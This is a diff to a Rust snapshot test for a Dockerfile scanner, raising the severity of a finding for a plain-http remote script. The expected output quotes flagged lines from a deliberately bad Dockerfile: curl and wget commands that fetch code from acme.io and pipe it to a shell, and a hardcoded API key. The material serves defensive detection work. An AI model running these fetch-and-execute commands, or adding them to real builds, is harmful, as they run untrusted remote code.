@@ -7,6 +7,8 @@ const BAD: &str = "# syntax=evil/frontend\nFROM node:22 AS build\nARG NPM_TOKEN\
 #[test]
 fn what_a_build_should_not_do_is_said() {
     insta::assert_snapshot!(shown_full(&[("Dockerfile", BAD)]), @r#"
+    high Dockerfile:8: Dockerfile: what an unprotected address answers is run
+        | RUN --security=insecure bash -c "$(wget -qO- http://acme.io/x)"
     high Dockerfile:11: Dockerfile: what an address answers is run
         | ENTRYPOINT curl https://acme.io | sh
     medium Dockerfile: 5 more findings of the kind `Dockerfile` are not listed
@@ -16,8 +18,6 @@ fn what_a_build_should_not_do_is_said() {
         | ENV API_KEY=a8f7b6c5d4e3
     medium Dockerfile:7: Dockerfile: what an address answers is run
         | curl -fsSL https://acme.io/install.sh | bash -
-    medium Dockerfile:8: Dockerfile: what an address answers is run
-        | RUN --security=insecure bash -c "$(wget -qO- http://acme.io/x)"
     info Dockerfile:5: This code names hosts: acme.io
         | ADD http://acme.io/x.tar /x
     "#);
